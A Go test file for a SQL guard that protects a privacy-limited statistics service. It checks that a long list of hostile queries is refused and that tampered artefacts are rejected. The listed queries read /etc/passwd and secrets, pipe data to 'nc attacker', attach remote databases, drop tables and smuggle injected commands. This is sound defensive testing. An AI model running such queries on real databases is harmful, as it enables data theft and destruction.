package attack_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"yunei/internal/core/query"
	"yunei/internal/core/query/guard"
	"yunei/internal/core/query/querytest"
	"yunei/internal/core/query/release"
	"yunei/internal/core/query/render"
)

// escapes are texts that would read a file, open a connection, change a setting or hide what they are.
var escapes = []string{
	"SELECT COUNT(*) AS n FROM read_csv('/etc/passwd')",
	"SELECT COUNT(*) AS n FROM read_parquet('s3://b/x.parquet')",
	"SELECT COUNT(*) AS n FROM '/etc/passwd'",
	`SELECT COUNT(*) AS n FROM "/etc/passwd"`,
	`SELECT COUNT(*) AS n FROM "read_csv('/etc/passwd')"`,
	"SELECT COUNT(*) AS n FROM glob('/**')",
	"SELECT COUNT(*) AS n FROM duckdb_secrets()",
	"SELECT COUNT(*) AS n FROM duckdb_settings",
	"SELECT COUNT(*) AS n FROM information_schema.tables",
	"SELECT COUNT(*) AS n FROM pg_catalog.pg_class",
	"SELECT COUNT(*) AS n FROM main.credit_default",
	"SELECT COUNT(*) AS n FROM sqlite_scan('x.db', 'y')",
	"SELECT COUNT(*) AS n FROM query('SELECT 1')",
	"SELECT COUNT(*) AS n FROM query_table('credit_default')",
	"SELECT COUNT(*) AS n FROM postgres_query('a', 'b')",
	"SELECT getenv('HOME') AS h, COUNT(*) AS n FROM credit_default GROUP BY 1",
	"SELECT COUNT(*) AS n FROM credit_default WHERE getenv('HOME') = 'x'",
	"SELECT SUM(length(read_text('/etc/passwd'))) AS n FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default WHERE pg_read_file('/etc/passwd') IS NOT NULL",
	"SELECT COUNT(*) AS n, current_setting('access_mode') AS s FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default WHERE random() < 0.5",
	"SELECT COUNT(*) AS n FROM credit_default WHERE error('x') = 1",
	"SELECT SUM(json_execute_serialized_sql('x')) AS n FROM credit_default",
	"COPY credit_default TO '/tmp/x.csv'",
	"COPY (SELECT sid FROM credit_default) TO PROGRAM 'nc attacker 1'",
	"ATTACH 'http://attacker/x.db' AS a",
	"INSTALL httpfs", "LOAD httpfs", "PRAGMA database_list", "SET enable_external_access = true", "RESET ALL", "CALL pragma_version()",
	"CREATE TABLE x AS SELECT COUNT(*) AS n FROM credit_default", "DROP TABLE credit_default", "EXPLAIN ANALYZE SELECT COUNT(*) AS n FROM credit_default",
	"INSERT INTO credit_default SELECT sid FROM credit_default", "UPDATE credit_default SET age = 1", "DELETE FROM credit_default",
	"DO $$ BEGIN END $$", "PREPARE p AS SELECT 1", "EXECUTE p", "VACUUM", "EXPORT DATABASE '/tmp/x'",
	"SELECT COUNT(*) AS n FROM credit_default; COPY credit_default TO '/tmp/x'",
	"SELECT COUNT(*) AS n FROM credit_default;;SELECT 1",
	"SELECT COUNT(*) AS n INTO x FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default FOR UPDATE",
	"WITH x AS (DELETE FROM credit_default RETURNING sid) SELECT COUNT(*) AS n FROM x",
	"WITH RECURSIVE x AS (SELECT sid FROM credit_default UNION ALL SELECT sid FROM x) SELECT COUNT(*) AS n FROM x",
	"SELECT COUNT(*) AS n FROM credit_default, LATERAL (SELECT 1) l",
	"SELECT COUNT(*) AS n FROM credit_default TABLESAMPLE system (1)",
	"SELECT COUNT(*) AS n FROM credit_default WHERE EXISTS (SELECT 1 FROM credit_default c WHERE c.age = 36)",
	"SELECT COUNT(*) AS n FROM credit_default WHERE age = (SELECT MAX(age) FROM credit_default)",
	"SELECT (SELECT sid FROM credit_default LIMIT 1) AS s, COUNT(*) AS n FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default UNION ALL SELECT sid FROM credit_default",
	"TABLE credit_default", "VALUES (1)", "SELECT * FROM credit_default", "SELECT credit_default FROM credit_default",
	"SELECT array_agg(sid) AS a FROM credit_default", "SELECT string_agg(sid, ',') AS a FROM credit_default", "SELECT json_agg(sid) AS a FROM credit_default",
	"SELECT MAX(age) AS a FROM credit_default", "SELECT first(age) AS a FROM credit_default", "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY age) AS a FROM credit_default",
	"SELECT COUNT(*) OVER () AS n FROM credit_default", "SELECT COUNT(DISTINCT age) AS n FROM credit_default", "SELECT DISTINCT education FROM credit_default",
	"SELECT COUNT(*) AS n /* /* */ ; DROP TABLE x -- */ FROM credit_default; SELECT 1",
	"SELECT COUNT(*) /* a /* b */ */ */ AS n FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default /*+ x */ --\u2028; DROP TABLE x",
	"SELECT COUNT(*) AS n FROM credit\u00addefault", "SELECT COUNT(*) AS n FROM credit_default\u2060", "SELECT COUNT(*) AS n FROM ｃredit_default",
	"SELECT COUNT(*) AS n FROM credit_default WHERE sex = \u0661", "SELECT COUNT(*) AS n\ufeff FROM credit_default", "SEL\u200dECT COUNT(*) AS n FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default WHERE sex = 1 \u2215\u2217 x", "SELECT COUNT(*) AS \"a\u202eb\" FROM credit_default",
	"SELECT COUNT(*) AS n FROM credit_default WHERE sex = E'\\x31'", "SELECT COUNT(*) AS n FROM credit_default WHERE U&\"\\0061ge\" >= 30",
	"SELECT COUNT(*) AS n FROM visit WHERE ward = $q$N$q$", "SELECT COUNT(*) AS n FROM visit WHERE ward ~ '^(a+)+$'", "SELECT COUNT(*) AS n FROM visit WHERE ward SIMILAR TO 'N%'",
	"SELECT COUNT(*) AS n FROM visit WHERE diagnosis = 'x'", "SELECT COUNT(diagnosis) AS n FROM visit", "SELECT diagnosis, COUNT(*) AS n FROM visit GROUP BY diagnosis",
	"SELECT COUNT(*) AS n FROM visit WHERE infectious = 1", "SELECT note, COUNT(*) AS n FROM visit GROUP BY note", "SELECT COUNT(*) AS n FROM visit WHERE note LIKE '%张三%'",
	"SELECT COUNT(*) AS n FROM credit_default c JOIN firm f ON c.sid = f.sid", "SELECT COUNT(*) AS n FROM credit_default a CROSS JOIN credit_default b",
	"SELECT COUNT(*) AS n FROM credit_default a JOIN credit_default b ON a.age = b.age", "SELECT COUNT(*) AS n FROM credit_default a JOIN visit b ON a.sid > b.sid",
	"SELECT COUNT(*) AS n FROM credit_default WHERE rowid = 1", "SELECT COUNT(*) AS n FROM credit_default WHERE ctid = '(0,1)'", "SELECT COUNT(*) AS n FROM credit_default WHERE md5(sid) < '8'",
}

// TestEscapes: every one is refused with a code of the list, as class A, B, C and O alike, so nothing of it is rendered.
func TestEscapes(t *testing.T) {
	codes := guard.Codes()
	count := map[guard.Code]int{}
	for _, text := range escapes {
		for _, class := range []query.Class{query.A, query.B, query.C, query.O} {
			m, refusals := guard.Compile(text, class, querytest.City())
			if m != nil || len(refusals) == 0 {
				t.Errorf("class %s accepts: %s", class, text)
				continue
			}
			if _, known := codes[refusals[0].Code]; !known || refusals[0].Zh == "" {
				t.Errorf("class %s: no reason of the list: %+v", class, refusals[0])
			}
			if class == query.A {
				count[refusals[0].Code]++
			}
		}
	}
	t.Logf("escapes: %d texts in 4 classes, 0 accepted; as class A by code: %v", len(escapes), count)
}

// TestLiteralsStayOut: a text constant that is SQL reaches the engine as a parameter or not at all.
func TestLiteralsStayOut(t *testing.T) {
	for _, s := range []string{"N'' OR 1=1 --", "x\"); ATTACH ''a''; --", "'); COPY t0 TO ''/tmp/x''", "$1", "/* */", "\\"} {
		for _, put := range []string{"ward = '%s'", "ward IN ('N', '%s')", "ward <> '%s'", "starts_with(ward, '%s')"} {
			m, _ := guard.Compile("SELECT ward, COUNT(*) AS n FROM visit WHERE "+fmt.Sprintf(put, s)+" GROUP BY ward", query.A, querytest.City())
			if m == nil {
				continue
			}
			st, err := render.Model(m, render.Options{Salt: "s"})
			if err != nil {
				t.Fatal(err)
			}
			for _, part := range []string{"ATTACH", "COPY", "OR 1", "--", "/*", "\\", strings.ReplaceAll(s, "''", "'")} {
				if part != "$1" && strings.Contains(st.SQL, part) {
					t.Errorf("%q stands in the statement: %s", part, st.SQL)
				}
			}
		}
	}
}

// forged changes one text or number of an artefact, everywhere it can be changed.
func forged(m *query.Model, f func(path string, doc []byte)) {
	var doc any
	d := json.NewDecoder(bytes.NewReader(m.Canonical()))
	d.UseNumber()
	if err := d.Decode(&doc); err != nil {
		panic(err)
	}
	again := func(path string) {
		var b bytes.Buffer
		e := json.NewEncoder(&b)
		e.SetEscapeHTML(false)
		if err := e.Encode(doc); err != nil {
			panic(err)
		}
		var back query.Model
		if json.Unmarshal(b.Bytes(), &back) == nil {
			f(path, back.Canonical())
		}
	}
	texts := []string{`x" FROM read_csv('/etc/passwd') --`, "'); ATTACH 'a'; --", "day') OR getenv('HOME') IS NOT NULL --", "read_text", "firm", "diagnosis", "sid", "note", "min", "scan", "subject"}
	numbers := []json.Number{"-1", "0", "1", "7", "999999", "9223372036854775807", "-9223372036854775808"}
	var walk func(path string, v any, put func(any))
	walk = func(path string, v any, put func(any)) {
		switch v := v.(type) {
		case map[string]any:
			for k, child := range v {
				walk(path+"."+k, child, func(n any) { v[k] = n })
			}
		case []any:
			for i, child := range v {
				walk(fmt.Sprintf("%s[%d]", path, i), child, func(n any) { v[i] = n })
			}
		case string:
			for _, s := range texts {
				put(s)
				again(path + " = " + s)
			}
			put(v)
		case json.Number:
			for _, n := range numbers {
				put(n)
				again(path + " = " + n.String())
			}
			put(v)
		}
	}
	walk("", doc, func(any) {})
}

// engineWords may stand in no statement outside of a quoted name.
var engineWords = regexp.MustCompile(`(?i)read_|attach|copy|getenv|install|load|pragma|passwd|--|/\*|;`)
var quoted = regexp.MustCompile(`"(?:[^"]|"")*"`)

// TestForgedModels swaps parts of an approved artefact. What still decodes has another hash, so it is not what was signed;
// what the checks would let pass all the same renders to nothing outside the closed words, moves no figure further
// than it is charged for, and what names another column or table is refused.
func TestForgedModels(t *testing.T) {
	made, decoded, passed := 0, 0, 0
	city := querytest.City()
	for _, text := range []string{
		"SELECT ward, date_trunc('quarter', at) AS q, SUM(cost) AS s, COUNT(*) AS n FROM visit WHERE days >= 7 AND ward IN ('N', 'E') GROUP BY ward, date_trunc('quarter', at) HAVING n >= 20",
		"SELECT p.category, AVG(i.price) AS a FROM item i LEFT JOIN product p ON i.sku = p.sku GROUP BY p.category",
	} {
		m := compile(t, query.A, text)
		forged(m, func(path string, doc []byte) {
			made++
			f, err := query.Decode(doc)
			if err != nil || f.Hash() == m.Hash() {
				return
			}
			decoded++
			if st, err := render.Model(f, render.Options{Salt: "s"}); err == nil {
				if word := engineWords.FindString(quoted.ReplaceAllString(st.SQL, "")); word != "" {
					t.Errorf("%s: %q stands in the statement: %s", path, word, st.SQL)
				}
			}
			if _, refusals := guard.Recheck(f, city); len(refusals) > 0 {
				return
			}
			passed++
			for _, ref := range f.Tables {
				table, ok := city.Table(ref.Name)
				for _, c := range ref.Columns {
					if col, has := table.Column(c.Name); !ok || !has || col.Role == query.Never || col.Grade.National == query.Core {
						t.Errorf("%s: the checks pass %s.%s", path, ref.Name, c.Name)
					}
				}
			}
			p, err := release.NewPlan(f, release.Ask{Rho: release.RhoUnit / 100, K: 10})
			if err != nil {
				return
			}
			data := querytest.People(77, 8)
			all := exactCells(t, f, data)
			for person := range 8 {
				d := duel{f, p, all, exactCells(t, f, without(data, fmt.Sprintf("s%04d", person)))}
				if loss := d.loss(); loss > 2*p.Rho.Float()*(1+1e-9) {
					t.Errorf("%s: one person uses %.2f of the charge", path, loss/(2*p.Rho.Float()))
				}
			}
		})
	}
	t.Logf("forged artefacts: %d made, %d decode (each under another hash), %d would pass the checks and stay within their charge", made, decoded, passed)
	if made < 500 || decoded == 0 {
		t.Error("nothing was forged")
	}
}

// TestSwappedBytes changes single bytes of what was signed: nothing decodes to the same hash.
func TestSwappedBytes(t *testing.T) {
	m := compile(t, query.A, "SELECT education, COUNT(*) AS n FROM credit_default WHERE age >= 30 GROUP BY education")
	doc, decoded := m.Canonical(), 0
	for i := range doc {
		for _, b := range []byte{doc[i] ^ 0x20, doc[i] ^ 1, '0', ' '} {
			if b == doc[i] {
				continue
			}
			other := bytes.Clone(doc)
			other[i] = b
			f, err := query.Decode(other)
			if err != nil {
				continue
			}
			decoded++
			if f.Hash() == m.Hash() {
				t.Errorf("byte %d: other bytes, the same hash", i)
			}
		}
	}
	for name, other := range map[string][]byte{
		"a space before": append([]byte(" "), doc...), "a line after": append(bytes.Clone(doc), '\n'), "twice": append(bytes.Clone(doc), doc...),
		"a field twice": bytes.Replace(doc, []byte(`"class":"A"`), []byte(`"class":"A","class":"A"`), 1), "an unknown field": bytes.Replace(doc, []byte(`"class":"A"`), []byte(`"class":"A","x":1`), 1),
		"another case": bytes.Replace(doc, []byte(`"class"`), []byte(`"Class"`), 1), "an escape": bytes.Replace(doc, []byte("education"), []byte(`\u0065ducation`), 1),
	} {
		if _, err := query.Decode(other); err == nil {
			t.Errorf("%s: decoded", name)
		}
	}
	t.Logf("swapped bytes: %d single changes decode, all under another hash", decoded)
}

// TestSwappedPlan lowers, in a plan that was approved, what one person is said to move. The sums still agree with each
// other, so the charge would be too small: the collection compares the plan with the model.
func TestSwappedPlan(t *testing.T) {
	with, _ := crowd(90, 40)
	l := newLab(t, with)
	const text = "SELECT education, SUM(limit_bal) AS s, COUNT(*) AS n FROM credit_default GROUP BY education"
	m := compile(t, query.A, text)
	plan := func() release.Plan {
		p, err := release.NewPlan(m, release.Ask{Rho: release.RhoUnit / 50, K: 10})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	exact := exactCells(t, m, with)
	if _, _, err := release.Collect(m, plan(), exact, l.src, release.Options{}); err != nil {
		t.Fatal(err)
	}
	for name, change := range map[string]func(*release.Plan){
		"less of a sum":    func(p *release.Plan) { p.Vectors[0].C = 1; p.Vectors[1].C = 1 },
		"fewer vectors":    func(p *release.Plan) { p.Vectors, p.Basis = p.Vectors[:1], 0 },
		"one vector twice": func(p *release.Plan) { p.Vectors[1] = p.Vectors[0] },
		"fewer cells":      func(p *release.Plan) { p.Cells-- },
		"no threshold":     func(p *release.Plan) { p.Basis = 5 },
		"no cells":         func(p *release.Plan) { p.L0 = 0 },
		"another model":    func(p *release.Plan) { p.Model = "sha256:00" },
		"a smaller charge": func(p *release.Plan) { p.Rho-- },
	} {
		p := plan()
		change(&p)
		if name != "a smaller charge" {
			p.Rho, _ = p.Recharge()
		}
		if _, _, err := release.Collect(m, p, exact, l.src, release.Options{}); err == nil {
			t.Errorf("%s: collected at a charge of %s instead of %s", name, p.Rho, plan().Rho)
		}
	}
}

// TestStricterPolicy: an approved model meets today's policy before it runs.
func TestStricterPolicy(t *testing.T) {
	m := compile(t, query.A, "SELECT ward, AVG(cost) AS a FROM visit WHERE days >= 7 GROUP BY ward")
	for name, change := range map[string]func(*query.Table){
		"a column closed":     func(v *query.Table) { col(v, "cost").Role = query.Never },
		"a use withdrawn":     func(v *query.Table) { col(v, "days").Uses = nil },
		"graded as core data": func(v *query.Table) { col(v, "ward").Grade.National = query.Core },
		"no code list":        func(v *query.Table) { col(v, "ward").Domain = nil },
		"other cut points":    func(v *query.Table) { col(v, "days").Edges = []int64{14} },
		"another schema":      func(v *query.Table) { v.SchemaVersion++ },
		"few people":          func(v *query.Table) { v.Units = 20 },
		"gone":                func(v *query.Table) { v.Name = "elsewhere" },
	} {
		city := querytest.City()
		for i := range city.Tables {
			if city.Tables[i].Name == "visit" {
				change(&city.Tables[i])
			}
		}
		if _, refusals := guard.Recheck(m, city); len(refusals) == 0 {
			t.Errorf("%s: still passes", name)
		}
	}
	if _, refusals := guard.Recheck(m, querytest.City()); len(refusals) > 0 {
		t.Errorf("unchanged: %+v", refusals)
	}
}

func col(t *query.Table, name string) *query.Column {
	c, ok := t.Column(name)
	if !ok {
		panic("no column " + name)
	}
	return c
}
